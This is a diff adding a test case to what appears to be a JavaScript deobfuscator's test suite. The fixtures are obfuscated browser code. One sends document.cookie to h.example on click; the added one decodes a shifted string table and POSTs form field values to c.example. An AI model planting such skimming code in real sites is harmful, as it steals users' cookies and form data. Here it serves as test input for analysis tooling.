@@ -337,6 +337,27 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
       document.addEventListener('click', function () { fetch('https://' + cfg.host + '/' + dec('fp') + '?' + document.cookie) })`,
     has: ['"https://h.example/pf?"'],
   },
+  {
+    name: 'a decoder used at load and filling its memo in a handler that stopped earlier still reads',
+    source: `var T = ['kwwsv=22f1h{dpsoh2l', 'irupv', 'ydoxh'], seen = {}
+      function d(i) {
+        if (seen[i] !== undefined) return seen[i]
+        var o = ''
+        for (var j = 0; j < T[i].length; j++) o += String.fromCharCode(T[i].charCodeAt(j) - 3)
+        return (seen[i] = o)
+      }
+      function re(i) { return new RegExp(d(i), 'i') }
+      function grab() {
+        var all = document[d(1)][0].elements, out = [], r = re(2)
+        for (var k = 0; k < all.length; k++) if (r.test(all[k].name)) out.push(all[k][d(2)])
+        return out
+      }
+      document.addEventListener(d(1), function () {
+        var out = grab()
+        fetch(d(0), { method: 'POST', body: out.join('&') })
+      })`,
+    has: ['fetch("https://c.example/i"'],
+  },
 ]
 
 describe('partial evaluator', () => {
